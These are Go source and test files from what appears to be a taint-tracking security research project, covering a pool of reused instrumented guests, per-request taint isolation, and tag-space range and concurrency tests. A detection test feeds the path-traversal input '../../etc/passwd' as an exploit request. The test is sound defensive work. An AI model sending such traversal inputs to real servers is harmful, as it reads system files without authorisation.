		benign, err := p.Run(requestWorld("index.html"))
		if err != nil {
			t.Fatal(err)
		}
		if benign.Alert != nil {
			t.Fatalf("round %d: benign request alerted: %v", round, benign.Alert)
		}

		evil, err := p.Run(requestWorld("../../etc/passwd"))
		if err != nil {
			t.Fatal(err)
		}
		if evil.Alert == nil {
			t.Fatalf("round %d: traversal exploit not detected", round)
		}
		if rep := evil.Report(); rep == nil {
			t.Fatalf("round %d: alert carries no forensic report", round)
		}
	}
}

// Concurrent requests across pool guests must be isolated: every
// response matches the single-guest reference byte for byte.
func TestPoolConcurrentRequestsIsolated(t *testing.T) {
	p := newHTTPDPool(t, 3)
	ref, err := p.Run(requestWorld("index.html"))
	if err != nil {
		t.Fatal(err)
	}
	want := append([]byte(nil), ref.World.NetOut...)

	const n = 12
	var wg sync.WaitGroup
	errs := make([]error, n)
	outs := make([][]byte, n)
	for i := 0; i < n; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			res, err := p.Run(requestWorld("index.html"))
			if err != nil {
				errs[i] = err
				return
			}
			outs[i] = res.World.NetOut
		}(i)
	}
	wg.Wait()
	for i := 0; i < n; i++ {
		if errs[i] != nil {
			t.Fatalf("request %d: %v", i, errs[i])
		}
		if !bytes.Equal(outs[i], want) {
			t.Fatalf("request %d: NetOut = %q, want %q", i, outs[i], want)
		}
	}
	if st := p.Stats(); st.Busy != 0 {
		t.Fatalf("pool busy = %d after drain, want 0", st.Busy)
	}
}
