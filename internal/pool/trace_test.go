package pool

import (
	"testing"

	"shift/internal/policy"
	"shift/internal/shift"
	"shift/internal/taint"
	"shift/internal/trace"
)

// echoSource reads one record from the network and one from stdin; each
// request exercises whichever input its world actually supplies, so the
// taint-birth events in its trace name exactly the channels that fed it.
const echoSource = `
char net[32];
char in[32];

void main() {
	recv(net, 32);
	read(0, in, 32);
	exit(0);
}
`

// Two requests on ONE recycled guest, each with its own flight
// recorder: taint-birth attribution must stay per-request. Request 1 is
// fed by the network, request 2 by stdin — the second trace must not
// contain network-born taint (label bleed), and the recycled tag space
// must carry no birth-channel bookkeeping from request 1.
func TestPoolTwoRequestTaintAttribution(t *testing.T) {
	conf := policy.DefaultConfig()
	conf.Sources = map[string]bool{"network": true, "stdin": true}
	opt := shift.Options{Instrument: true, Policy: conf}
	prog, err := shift.Build([]shift.Source{{Name: "echo.mc", Text: echoSource}}, opt)
	if err != nil {
		t.Fatal(err)
	}
	p, err := New(prog, 1, opt)
	if err != nil {
		t.Fatal(err)
	}

	births := func(tr *trace.Tracer) map[string]int {
		out := map[string]int{}
		for _, ev := range tr.Events() {
			if ev.Kind == trace.KindTaint {
				out[ev.Name]++
			}
		}
		return out
	}

	w1 := shift.NewWorld()
	w1.NetIn = []byte("request one payload")
	tr1 := trace.New(4096)
	if res, err := p.RunTraced(w1, tr1); err != nil || res.Trap != nil || res.Alert != nil {
		t.Fatalf("request 1: err=%v res=%+v", err, res)
	}
	b1 := births(tr1)
	if b1["network"] == 0 {
		t.Fatalf("request 1 births = %v, want network taint", b1)
	}
	if b1["stdin"] != 0 || b1["file"] != 0 {
		t.Fatalf("request 1 births = %v: stdin/file taint with no such input", b1)
	}

	w2 := shift.NewWorld()
	w2.Stdin = []byte("request two payload")
	tr2 := trace.New(4096)
	if res, err := p.RunTraced(w2, tr2); err != nil || res.Trap != nil || res.Alert != nil {
		t.Fatalf("request 2: err=%v res=%+v", err, res)
	}
	b2 := births(tr2)
	if b2["stdin"] == 0 {
		t.Fatalf("request 2 births = %v, want stdin taint", b2)
	}
	if b2["network"] != 0 {
		t.Fatalf("request 2 births = %v: network label bled from request 1", b2)
	}
	// Request 1's events must not have leaked into request 2's recorder
	// (one hook per run; a stale hook on the recycled machine would
	// double-feed).
	for _, ev := range tr2.Events() {
		if ev.Kind == trace.KindTaint && ev.Name == "network" {
			t.Fatalf("request 1 event in request 2 trace: %+v", ev)
		}
	}

	// The recycled guest's tag space must be channel-clean: no live
	// union, no per-unit origins surviving the tag clear.
	g := p.Acquire()
	defer p.Release(g)
	if live := g.Tags().Live(); live != 0 {
		t.Fatalf("recycled guest live channels = %v, want none", live)
	}
}

// A single syscall tainting a multi-unit buffer must attribute its
// birth channel to every unit it touched, at both granularities — not
// just the first unit of the range. The taint-birth trace event names
// the range; the tag space must answer the same channel for all of it.
func TestMultiUnitBirthAttribution(t *testing.T) {
	for _, gran := range []taint.Granularity{taint.Byte, taint.Word} {
		conf := policy.DefaultConfig()
		conf.Granularity = gran
		conf.Sources = map[string]bool{"network": true}
		opt := shift.Options{Instrument: true, Policy: conf}
		prog, err := shift.Build([]shift.Source{{Name: "echo.mc", Text: echoSource}}, opt)
		if err != nil {
			t.Fatal(err)
		}
		p, err := New(prog, 1, opt)
		if err != nil {
			t.Fatal(err)
		}
		g := p.Acquire()
		w := shift.NewWorld()
		w.NetIn = []byte("0123456789abcdef0123456789abcdef")
		w.Tags, w.Engine = g.tags, g.engine
		w.HeapBase, w.StackTop = p.heapBase, p.stackTop
		tr := trace.New(4096)
		runOpt := opt
		runOpt.Trace = tr
		res, err := shift.RunOn(g.mach, w, runOpt)
		if err != nil || res.Trap != nil || res.Alert != nil {
			t.Fatalf("gran %v: err=%v res=%+v", gran, err, res)
		}
		var birth *trace.Event
		for i, ev := range tr.Events() {
			if ev.Kind == trace.KindTaint && ev.Name == "network" {
				birth = &tr.Events()[i]
				break
			}
		}
		if birth == nil {
			t.Fatalf("gran %v: no network taint-birth event", gran)
		}
		if birth.N != 32 {
			t.Fatalf("gran %v: birth event covers %d bytes, want the full 32-byte record", gran, birth.N)
		}
		cb, err := g.tags.ChannelBytes(birth.Addr, int(birth.N))
		if err != nil {
			t.Fatal(err)
		}
		for i, ch := range cb {
			if ch&taint.ChanNetwork == 0 {
				t.Fatalf("gran %v: byte %d of the received record lost its network birth (%v)", gran, i, ch)
			}
		}
		p.Release(g)
	}
}
