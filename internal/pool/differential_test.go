package pool_test

import (
	"fmt"
	"reflect"
	"testing"

	"shift/internal/attacks"
	"shift/internal/isa"
	"shift/internal/loader"
	"shift/internal/machine"
	"shift/internal/mem"
	"shift/internal/policy"
	"shift/internal/shift"
	"shift/internal/taint"
	"shift/internal/workload"
)

// runState is everything observable about one run: guest outputs, exit
// and stop condition, cycle accounting, final architectural register
// state, and the tag bitmap (as a content digest of region 0). Reuse is
// transparent exactly when all of it matches a fresh machine's.
type runState struct {
	Stdout  string
	NetOut  string
	HTMLOut string
	SQLLog  []string
	SysLog  []string
	Opened  []string
	Exit    int64
	Alert   string
	Trap    string
	Cycles  uint64
	Retired uint64
	GR      [isa.NumGR]int64
	NaT     [isa.NumGR]bool
	PR      [isa.NumPR]bool
	PC      int
	TagDig  uint64
}

func capture(res *shift.Result) *runState {
	s := &runState{
		Stdout:  string(res.World.Stdout),
		NetOut:  string(res.World.NetOut),
		HTMLOut: string(res.World.HTMLOut),
		SQLLog:  res.World.SQLLog,
		SysLog:  res.World.SysLog,
		Opened:  res.World.Opened,
		Exit:    res.ExitStatus,
		Cycles:  res.Cycles,
		Retired: res.Retired,
		GR:      res.Machine.GR,
		NaT:     res.Machine.NaT,
		PR:      res.Machine.PR,
		PC:      res.Machine.PC,
		TagDig:  res.Machine.Mem.RegionDigest(0),
	}
	if res.Alert != nil {
		s.Alert = res.Alert.String()
	}
	if res.Trap != nil {
		s.Trap = res.Trap.Error()
	}
	return s
}

// diffReuse is the core assertion: a program run on a snapshot/restored
// guest — twice, with the guest recycled in between and the lockstep
// oracle attached on the second run — must be indistinguishable from a
// fresh machine in every captured observable.
func diffReuse(t *testing.T, prog *isa.Program, opt shift.Options, world func() *shift.World) {
	t.Helper()
	ref, err := shift.Run(prog, world(), opt)
	if err != nil {
		t.Fatal(err)
	}
	want := capture(ref)

	img, err := loader.Load(prog)
	if err != nil {
		t.Fatal(err)
	}
	snap := img.Mem.Snapshot()
	regs := img.NewMachine().SnapshotRegs()
	m := mem.NewFromSnapshot(snap)
	m.Cache = mem.NewCache(16*1024, 64)
	mach := machine.New(prog, m)
	mach.RestoreRegs(regs)

	conf := opt.Policy
	if conf == nil {
		conf = policy.DefaultConfig()
	}
	gran := opt.Granularity
	if opt.Policy != nil {
		gran = conf.Granularity
	}
	tags := taint.NewSpace(m, gran)
	engine := policy.NewEngine(conf)

	run := func(o shift.Options) *runState {
		t.Helper()
		w := world()
		w.HeapBase, w.StackTop = img.HeapBase, img.StackTop
		w.Tags, w.Engine = tags, engine
		res, err := shift.RunOn(mach, w, o)
		if err != nil {
			t.Fatal(err)
		}
		return capture(res)
	}

	assertSame := func(label string, got *runState) {
		t.Helper()
		if reflect.DeepEqual(want, got) {
			return
		}
		wv, gv := reflect.ValueOf(*want), reflect.ValueOf(*got)
		for i := 0; i < wv.NumField(); i++ {
			if !reflect.DeepEqual(wv.Field(i).Interface(), gv.Field(i).Interface()) {
				t.Errorf("%s: %s diverged from fresh machine:\n fresh: %.200v\nreused: %.200v",
					label, wv.Type().Field(i).Name, wv.Field(i).Interface(), gv.Field(i).Interface())
			}
		}
	}

	assertSame("first reused run", run(opt))

	tags.Clear()
	m.Restore(snap)
	mach.RestoreRegs(regs)

	withOracle := opt
	withOracle.Oracle = true
	assertSame("second reused run (oracle lockstep)", run(withOracle))
}

// Every Figure-7 workload, reused-guest vs fresh.
func TestDifferentialReuseWorkloads(t *testing.T) {
	for _, b := range workload.All() {
		t.Run(b.Name, func(t *testing.T) {
			conf := b.Config()
			opt := shift.Options{Instrument: true, Policy: conf}
			prog, err := shift.Build([]shift.Source{{Name: b.Name + ".mc", Text: b.Source}}, opt)
			if err != nil {
				t.Fatal(err)
			}
			sc := b.RefScale / 16
			if sc < 512 {
				sc = 512
			}
			diffReuse(t, prog, opt, func() *shift.World { return b.World(sc) })
		})
	}
}

// Every Table-2 attack — benign and exploit inputs — reused-guest vs
// fresh: detection verdicts, traps and forensics inputs must not shift
// by a cycle when the guest has a history.
func TestDifferentialReuseAttacks(t *testing.T) {
	for _, a := range attacks.All() {
		conf := a.Config()
		opt := shift.Options{Instrument: true, Policy: conf}
		prog, err := shift.Build([]shift.Source{{Name: a.Program, Text: a.Source}}, opt)
		if err != nil {
			t.Fatal(err)
		}
		for _, c := range []struct {
			label string
			world func() *shift.World
		}{{"benign", a.Benign}, {"exploit", a.Exploit}} {
			t.Run(fmt.Sprintf("%s/%s", a.Program, c.label), func(t *testing.T) {
				diffReuse(t, prog, opt, c.world)
			})
		}
	}
}
