// Package pool maintains a set of warm instrumented guests that serve
// requests without paying program load or instrumentation cost per
// request. This is the paper's §6.3 server scenario made concrete: one
// loaded image — instrumented text, runtime library, initial data — is
// captured once as a mem.Snapshot, and every pooled guest runs over it
// through a copy-on-write base layer. Recycling a guest between
// requests costs O(pages the request dirtied) for memory (dirty-page
// restore), O(tagged bytes) for the taint bitmap (taint.Space.Clear),
// and a register overlay — not a reload.
//
// The recycle path is also where two lifecycle bugs this package exists
// to contain are closed: machine.RestoreRegs resets per-run identity
// (TID, hooks) so a recycled guest cannot misattribute retirements to a
// previous request's observers, and Space.Clear drops every tag so no
// request can see taint born from another request's input (see
// internal/attacks' pool-recycle bleed test).
package pool

import (
	"fmt"
	"sync/atomic"

	"shift/internal/isa"
	"shift/internal/loader"
	"shift/internal/machine"
	"shift/internal/mem"
	"shift/internal/metrics"
	"shift/internal/policy"
	"shift/internal/shift"
	"shift/internal/taint"
	"shift/internal/trace"
)

// Guest is one pooled machine: private COW memory and cache model over
// the pool's shared snapshot, plus the per-guest tag space and policy
// engine a run wires into its world.
type Guest struct {
	mach   *machine.Machine
	tags   *taint.Space
	engine *policy.Engine
}

// Machine exposes the guest's machine (for tests that inspect state
// between an Acquire and a Release).
func (g *Guest) Machine() *machine.Machine { return g.mach }

// Tags exposes the guest's tag space (nil for uninstrumented pools),
// for tests that pin recycle hygiene — no taint, and no birth-channel
// bookkeeping, may survive into the next request.
func (g *Guest) Tags() *taint.Space { return g.tags }

// Stats is a point-in-time view of pool accounting.
type Stats struct {
	Size          int
	Busy          int
	Requests      uint64
	Recycles      uint64
	RestoredPages uint64 // dirty pages rewound across all recycles
	ClearedPages  uint64 // nonzero tag pages zeroed across all recycles
}

// Pool is a fixed-size set of warm guests over one program image.
// All methods are safe for concurrent use; Run blocks while every
// guest is busy.
type Pool struct {
	prog     *isa.Program
	opt      shift.Options
	snap     *mem.Snapshot
	regs     *machine.RegSnapshot
	heapBase uint64
	stackTop uint64
	free     chan *Guest
	size     int

	requests      atomic.Uint64
	recycles      atomic.Uint64
	restoredPages atomic.Uint64
	clearedPages  atomic.Uint64
	busy          atomic.Int64
}

// New loads prog once, captures its post-load snapshot, and fills the
// pool with size warm guests. opt selects the same knobs as shift.Run;
// every request served by the pool runs with it.
func New(prog *isa.Program, size int, opt shift.Options) (*Pool, error) {
	if size < 1 {
		return nil, fmt.Errorf("pool: size %d, want >= 1", size)
	}
	img, err := loader.Load(prog)
	if err != nil {
		return nil, err
	}
	seed := img.NewMachine()
	p := &Pool{
		prog:     prog,
		opt:      opt,
		snap:     img.Mem.Snapshot(),
		regs:     seed.SnapshotRegs(),
		heapBase: img.HeapBase,
		stackTop: img.StackTop,
		free:     make(chan *Guest, size),
		size:     size,
	}
	for i := 0; i < size; i++ {
		p.free <- p.newGuest()
	}
	return p, nil
}

// newGuest builds one warm guest over the shared snapshot.
func (p *Pool) newGuest() *Guest {
	m := mem.NewFromSnapshot(p.snap)
	m.Cache = mem.NewCache(16*1024, 64)
	mach := machine.New(p.prog, m)
	mach.RestoreRegs(p.regs)
	g := &Guest{mach: mach}
	if p.opt.Instrument {
		conf := p.opt.Policy
		if conf == nil {
			conf = policy.DefaultConfig()
		}
		gran := p.opt.Granularity
		if p.opt.Policy != nil {
			gran = conf.Granularity
		}
		g.tags = taint.NewSpace(m, gran)
		g.engine = policy.NewEngine(conf)
	}
	return g
}

// Acquire takes a guest out of the pool, blocking until one is free.
// Pair with Release; prefer Run unless the caller must inspect guest
// state between runs.
func (p *Pool) Acquire() *Guest {
	g := <-p.free
	p.busy.Add(1)
	return g
}

// Release recycles the guest — tag clear, dirty-page restore, register
// overlay — and returns it to the pool.
func (p *Pool) Release(g *Guest) {
	p.recycle(g)
	p.busy.Add(-1)
	p.free <- g
}

// recycle rewinds a guest to the pool snapshot. The tag clear runs
// first: it is the security-critical step (no request may inherit
// another's taint) and must not depend on the dirty set being complete;
// the dirty-page restore then rewinds data, heap and stack content; the
// register overlay resets architectural state and per-run identity.
func (p *Pool) recycle(g *Guest) {
	if g.tags != nil {
		p.clearedPages.Add(uint64(g.tags.Clear()))
	}
	p.restoredPages.Add(uint64(g.mach.Mem.Restore(p.snap)))
	g.mach.RestoreRegs(p.regs)
	p.recycles.Add(1)
}

// Run serves one request: acquire a guest, wire the world to the
// guest's tag space and policy engine, execute via shift.RunOn, recycle
// and release. The returned Result is complete, but Result.Machine has
// been recycled by the time Run returns — callers needing machine state
// must use Acquire/Release and read it before releasing.
func (p *Pool) Run(world *shift.World) (*shift.Result, error) {
	return p.run(world, p.opt)
}

// RunTraced is Run with a per-request flight recorder attached, so a
// violation's forensic bundle carries the taint-lifecycle trail of
// exactly this request (cmd/shiftd attaches one per connection).
func (p *Pool) RunTraced(world *shift.World, tr *trace.Tracer) (*shift.Result, error) {
	opt := p.opt
	opt.Trace = tr
	return p.run(world, opt)
}

func (p *Pool) run(world *shift.World, opt shift.Options) (*shift.Result, error) {
	g := p.Acquire()
	defer p.Release(g)
	if world == nil {
		world = shift.NewWorld()
	}
	world.HeapBase = p.heapBase
	world.StackTop = p.stackTop
	world.Tags = g.tags
	world.Engine = g.engine
	res, err := shift.RunOn(g.mach, world, opt)
	p.requests.Add(1)
	return res, err
}

// Stats returns current accounting.
func (p *Pool) Stats() Stats {
	return Stats{
		Size:          p.size,
		Busy:          int(p.busy.Load()),
		Requests:      p.requests.Load(),
		Recycles:      p.recycles.Load(),
		RestoredPages: p.restoredPages.Load(),
		ClearedPages:  p.clearedPages.Load(),
	}
}

// SnapshotPages returns the shared base image's resident page count.
func (p *Pool) SnapshotPages() int { return p.snap.Pages() }

// RegisterMetrics installs the pool's instruments on reg: size and
// occupancy gauges plus the cumulative recycle counters. The server
// (cmd/shiftd) serves these from the same process as the workload.
func (p *Pool) RegisterMetrics(reg *metrics.Registry) {
	if reg == nil {
		return
	}
	reg.GaugeFunc("shift_pool_size", func() uint64 { return uint64(p.size) })
	reg.GaugeFunc("shift_pool_busy", func() uint64 { return uint64(p.busy.Load()) })
	reg.GaugeFunc("shift_pool_requests_total", p.requests.Load)
	reg.GaugeFunc("shift_pool_recycles_total", p.recycles.Load)
	reg.GaugeFunc("shift_pool_restored_pages_total", p.restoredPages.Load)
	reg.GaugeFunc("shift_pool_cleared_tag_pages_total", p.clearedPages.Load)
}
