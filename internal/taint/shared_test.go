package taint

import (
	"sync"
	"testing"

	"shift/internal/mem"
)

// A shared Space must never tear a tag unit: concurrent goroutines
// setting and clearing different bits of the same tag bytes are
// read-modify-writes of shared bitmap state, and without the shard locks
// one writer's interleaved RMW silently drops another's bit (the host-
// side twin of the paper's §4.4 guest hazard). Run under -race this also
// proves the locking discipline is complete, not just usually lucky.
func TestSharedSpaceNoTornUnits(t *testing.T) {
	for _, g := range []Granularity{Byte, Word} {
		t.Run(g.String(), func(t *testing.T) {
			m := mem.New()
			m.MapRegion(2, 0)
			s := NewSpace(m, g).Share()
			if !s.Shared() {
				t.Fatal("Share did not mark the space shared")
			}

			const workers = 8
			const span = 4096 // bytes of guest memory hammered
			base := mem.Addr(2, 0x1000)

			// Worker k owns bytes with index%workers == k: at byte
			// granularity adjacent owners collide inside single tag
			// bytes; at word granularity they collide inside tag words
			// (one shard lock covers 8 tag bytes).
			var wg sync.WaitGroup
			for k := 0; k < workers; k++ {
				wg.Add(1)
				go func(k int) {
					defer wg.Done()
					for round := 0; round < 50; round++ {
						for i := k; i < span; i += workers {
							a := base + uint64(i)
							if err := s.SetRange(a, 1); err != nil {
								t.Error(err)
								return
							}
						}
						if round == 49 {
							break // final round leaves everything set
						}
						for i := k; i < span; i += workers {
							a := base + uint64(i)
							if err := s.ClearRange(a, 1); err != nil {
								t.Error(err)
								return
							}
						}
					}
				}(k)
			}
			wg.Wait()

			n, err := s.CountTainted(base, span)
			if err != nil {
				t.Fatal(err)
			}
			want := uint64(span) / g.UnitBytes()
			if n != want {
				t.Fatalf("%d of %d units tainted after the hammer; %d lost to torn updates",
					n, want, want-n)
			}
		})
	}
}

// Concurrent readers must coexist with writers without perturbing them:
// Tainted and PeekUnit answer from a consistent tag byte under the shard
// lock.
func TestSharedSpaceConcurrentReaders(t *testing.T) {
	m := mem.New()
	m.MapRegion(2, 0)
	s := NewSpace(m, Byte).Share()
	base := mem.Addr(2, 0x2000)
	if err := s.SetRange(base, 64); err != nil {
		t.Fatal(err)
	}

	var wg sync.WaitGroup
	stop := make(chan struct{})
	for r := 0; r < 4; r++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				select {
				case <-stop:
					return
				default:
				}
				if tainted, err := s.Tainted(base, 64); err != nil || !tainted {
					t.Errorf("tainted=%v err=%v", tainted, err)
					return
				}
				if bit, err := s.PeekUnit(base); err != nil || !bit {
					t.Errorf("peek=%v err=%v", bit, err)
					return
				}
			}
		}()
	}
	for i := 0; i < 2000; i++ {
		// Churn neighbouring bytes of the same tag bytes; base stays set.
		if err := s.SetRange(base+64, 64); err != nil {
			t.Fatal(err)
		}
		if err := s.ClearRange(base+64, 64); err != nil {
			t.Fatal(err)
		}
	}
	close(stop)
	wg.Wait()
}
