package taint

import "strings"

// Channel identifies the input channel a taint mark was born from — the
// provenance axis of §3.3.1's source configuration. It is a bitmask so
// policy rules and live-set queries can express unions ("network or
// file") in one word.
type Channel uint8

// Birth channels. ChanHost covers taint introduced directly by the host
// interface (the taint() syscall and host-side SetRange callers), as
// opposed to an OS input channel.
const (
	ChanNetwork Channel = 1 << iota
	ChanFile
	ChanArgs
	ChanStdin
	ChanHost
)

// ChanAll is the union of every birth channel.
const ChanAll = ChanNetwork | ChanFile | ChanArgs | ChanStdin | ChanHost

// channelNames orders the canonical names for String.
var channelNames = []struct {
	ch   Channel
	name string
}{
	{ChanNetwork, "network"},
	{ChanFile, "file"},
	{ChanArgs, "args"},
	{ChanStdin, "stdin"},
	{ChanHost, "host"},
}

// String renders the mask as a comma-joined channel list.
func (c Channel) String() string {
	if c == 0 {
		return "none"
	}
	var parts []string
	for _, n := range channelNames {
		if c&n.ch != 0 {
			parts = append(parts, n.name)
		}
	}
	return strings.Join(parts, ",")
}

// ParseChannel resolves one channel name (with the aliases the policy
// configuration accepts) to its mask bit.
func ParseChannel(name string) (Channel, bool) {
	switch name {
	case "network", "net":
		return ChanNetwork, true
	case "file":
		return ChanFile, true
	case "args", "argv":
		return ChanArgs, true
	case "stdin":
		return ChanStdin, true
	case "host", "syscall":
		return ChanHost, true
	}
	return 0, false
}

// ChannelForSource maps an OS-model source name (the strings the world's
// syscalls use: "network", "file", "args", "stdin") to its channel.
// Unknown names map to ChanHost, the conservative catch-all.
func ChannelForSource(name string) Channel {
	if ch, ok := ParseChannel(name); ok {
		return ch
	}
	return ChanHost
}
