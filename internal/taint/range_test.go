package taint

import (
	"testing"

	"shift/internal/mem"
)

func newFullSpace(g Granularity) *Space {
	m := mem.New()
	s := NewSpace(m, g)
	for r := uint64(1); r < 8; r++ {
		m.MapRegion(r, 0)
	}
	return s
}

// Regression: the old walk used `for a := start; a < addr+n; a += unit`,
// and addr+n wraps to a tiny value for addresses near the top of region 7
// (e.g. a negative guest length cast to uint64), so the loop body never
// ran and the taint update was silently skipped. Such ranges must now be
// rejected, and in-range updates near the top must still land.
func TestSetRangeOverflow(t *testing.T) {
	for _, g := range []Granularity{Byte, Word} {
		s := newFullSpace(g)
		top := mem.Addr(7, mem.OffsetMask-15) // 16 bytes below the region top

		// A length that wraps addr+n past zero must error, not no-op.
		if err := s.SetRange(top, ^uint64(0)-7); err == nil {
			t.Errorf("%v: wrapping SetRange succeeded", g)
		}
		if tainted, err := s.Tainted(top, 16); err != nil || tainted {
			t.Errorf("%v: rejected range left taint behind: %v, %v", g, tainted, err)
		}

		// The legitimate range ending exactly at the region top works.
		if err := s.SetRange(top, 16); err != nil {
			t.Fatalf("%v: SetRange at region top: %v", g, err)
		}
		tainted, err := s.Tainted(top, 16)
		if err != nil {
			t.Fatalf("%v: Tainted at region top: %v", g, err)
		}
		if !tainted {
			t.Errorf("%v: taint at top of region 7 was silently dropped", g)
		}
		if n, err := s.CountTainted(top, 16); err != nil || n != 16/s.Gran.UnitBytes() {
			t.Errorf("%v: CountTainted at region top = %d, %v", g, n, err)
		}

		// One byte past the top has unimplemented bits: rejected.
		if err := s.SetRange(top, 17); err == nil {
			t.Errorf("%v: range past the implemented top succeeded", g)
		}
		if _, err := s.Tainted(mem.Addr(7, mem.OffsetMask)+1, 1); err == nil {
			t.Errorf("%v: Tainted with unimplemented start succeeded", g)
		}
	}
}

// Regression: with n == 0 and an unaligned addr, the old walk rounded
// start down to the unit base and the `a < addr+n` bound still admitted
// one iteration at word granularity, tainting (or clearing) a whole
// 8-byte unit for an empty range.
func TestSetRangeZeroLength(t *testing.T) {
	for _, g := range []Granularity{Byte, Word} {
		s := newFullSpace(g)
		addr := mem.Addr(2, 0x1003) // unaligned inside an 8-byte unit

		if err := s.SetRange(addr, 0); err != nil {
			t.Fatalf("%v: empty SetRange: %v", g, err)
		}
		if tainted, err := s.Tainted(addr&^7, 8); err != nil || tainted {
			t.Errorf("%v: empty SetRange tainted the containing unit", g)
		}

		// The symmetric bug: an empty clear must not wipe real taint.
		if err := s.SetRange(addr&^7, 8); err != nil {
			t.Fatal(err)
		}
		if err := s.ClearRange(addr, 0); err != nil {
			t.Fatalf("%v: empty ClearRange: %v", g, err)
		}
		if tainted, _ := s.Tainted(addr&^7, 8); !tainted {
			t.Errorf("%v: empty ClearRange wiped the containing unit", g)
		}

		if n, err := s.CountTainted(addr, 0); err != nil || n != 0 {
			t.Errorf("%v: CountTainted of empty range = %d, %v", g, n, err)
		}
	}
}

// PeekUnit must agree with Tainted and must not disturb the cache model.
func TestPeekUnit(t *testing.T) {
	for _, g := range []Granularity{Byte, Word} {
		s := newFullSpace(g)
		s.Mem.Cache = mem.NewCache(16*1024, 64)
		addr := mem.Addr(3, 0x2345)
		if err := s.SetRange(addr, 1); err != nil {
			t.Fatal(err)
		}
		hits, misses := s.Mem.Cache.Hits, s.Mem.Cache.Misses
		got, err := s.PeekUnit(addr)
		if err != nil || !got {
			t.Errorf("%v: PeekUnit(tainted) = %v, %v", g, got, err)
		}
		if got, err := s.PeekUnit(addr + 8); err != nil || got {
			t.Errorf("%v: PeekUnit(clean) = %v, %v", g, got, err)
		}
		if s.Mem.Cache.Hits != hits || s.Mem.Cache.Misses != misses {
			t.Errorf("%v: PeekUnit perturbed the cache model", g)
		}
		if _, err := s.PeekUnit(mem.Addr(3, 0) | 1<<45); err == nil {
			t.Errorf("%v: PeekUnit with unimplemented bits succeeded", g)
		}
	}
}

// FuzzTagRanges drives SetRange/ClearRange/Tainted/CountTainted with
// arbitrary ranges: no call may panic, valid updates must read back, and
// invalid ranges must leave the bitmap untouched.
func FuzzTagRanges(f *testing.F) {
	f.Add(uint64(7)<<61|uint64(mem.OffsetMask-15), uint64(16), true)
	f.Add(uint64(7)<<61|uint64(mem.OffsetMask-15), ^uint64(0)-7, true)
	f.Add(uint64(2)<<61|0x1003, uint64(0), false)
	f.Add(uint64(1)<<61|0x500, uint64(64), true)
	f.Fuzz(func(t *testing.T, addr, n uint64, word bool) {
		if n > 1<<20 {
			n %= 1 << 20 // keep valid walks fast; huge n is rejected anyway
		}
		g := Byte
		if word {
			g = Word
		}
		s := newFullSpace(g)
		err := s.SetRange(addr, n)
		tainted, terr := s.Tainted(addr, n)
		if err != nil {
			// A rejected range must not have tainted anything it names
			// (when the query itself is answerable).
			if terr == nil && tainted {
				t.Fatalf("rejected SetRange(%#x, %d) left taint", addr, n)
			}
			return
		}
		if terr != nil {
			t.Fatalf("SetRange ok but Tainted errored: %v", terr)
		}
		if n > 0 && !tainted {
			t.Fatalf("SetRange(%#x, %d) ok but range reads clean", addr, n)
		}
		if n == 0 && tainted {
			t.Fatalf("empty SetRange(%#x, 0) tainted something", addr)
		}
		if n > 0 {
			unit := s.Gran.UnitBytes()
			wantUnits := (addr+n-1)/unit - addr/unit + 1
			if c, err := s.CountTainted(addr, n); err != nil || c != wantUnits {
				t.Fatalf("CountTainted = %d, %v, want %d", c, err, wantUnits)
			}
			if err := s.ClearRange(addr, n); err != nil {
				t.Fatalf("ClearRange after SetRange: %v", err)
			}
			if tainted, _ := s.Tainted(addr, n); tainted {
				t.Fatalf("ClearRange(%#x, %d) left taint", addr, n)
			}
		}
	})
}
