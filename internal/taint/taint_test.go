package taint

import (
	"testing"
	"testing/quick"

	"shift/internal/mem"
)

func TestGranularityParameters(t *testing.T) {
	if Byte.UnitBytes() != 1 || Word.UnitBytes() != 8 {
		t.Errorf("unit bytes: byte=%d word=%d", Byte.UnitBytes(), Word.UnitBytes())
	}
	if Byte.String() != "byte" || Word.String() != "word" {
		t.Error("granularity names wrong")
	}
	if Byte.RegionFold() != 33 || Word.RegionFold() != 33 {
		t.Errorf("region folds: byte=%d word=%d", Byte.RegionFold(), Word.RegionFold())
	}
	if Byte.WholeByte() || !Word.WholeByte() {
		t.Error("WholeByte encodings wrong")
	}
}

// TestTagAddrInRegion0 checks Figure 4's key property: every tag address
// lands in region 0 with implemented bits only, for every region and
// offset of the tracked address.
func TestTagAddrInRegion0(t *testing.T) {
	for _, g := range []Granularity{Byte, Word} {
		f := func(region uint8, off uint64) bool {
			a := mem.Addr(uint64(region)&7, off&mem.OffsetMask)
			tb, bit := g.TagAddr(a)
			return mem.Region(tb) == 0 && mem.Implemented(tb) && bit < 8
		}
		if err := quick.Check(f, nil); err != nil {
			t.Fatalf("%s: %v", g, err)
		}
	}
}

// TestTagAddrInjective checks that distinct tracked units from any two
// regions never collide in the tag space: if two addresses map to the same
// (tag byte, bit), they must belong to the same tracked unit.
func TestTagAddrInjective(t *testing.T) {
	for _, g := range []Granularity{Byte, Word} {
		f := func(r1, r2 uint8, o1, o2 uint64) bool {
			a1 := mem.Addr(uint64(r1)&7, o1&mem.OffsetMask)
			a2 := mem.Addr(uint64(r2)&7, o2&mem.OffsetMask)
			t1, b1 := g.TagAddr(a1)
			t2, b2 := g.TagAddr(a2)
			sameUnit := a1/g.UnitBytes() == a2/g.UnitBytes()
			sameTag := t1 == t2 && b1 == b2
			return sameTag == sameUnit
		}
		if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
			t.Fatalf("%s: %v", g, err)
		}
	}
}

func TestTagAddrKnownValues(t *testing.T) {
	// Region 1, offset 0: byte-level tag at region 0, offset 1<<33.
	a := mem.Addr(1, 0)
	tb, bit := Byte.TagAddr(a)
	if tb != mem.Addr(0, 1<<33) || bit != 0 {
		t.Errorf("byte TagAddr(region1,0) = %#x,%d", tb, bit)
	}
	// Offset 9 at byte level: tag byte offset 1, bit 1.
	tb, bit = Byte.TagAddr(mem.Addr(1, 9))
	if tb != mem.Addr(0, 1<<33|1) || bit != 1 {
		t.Errorf("byte TagAddr(region1,9) = %#x,%d", tb, bit)
	}
	// Word level: one boolean tag byte per 8-byte word, bit always 0.
	tb, bit = Word.TagAddr(mem.Addr(2, 64))
	if tb != mem.Addr(0, 2<<33|8) || bit != 0 {
		t.Errorf("word TagAddr(region2,64) = %#x,%d", tb, bit)
	}
	tb, bit = Word.TagAddr(mem.Addr(2, 8))
	if tb != mem.Addr(0, 2<<33|1) || bit != 0 {
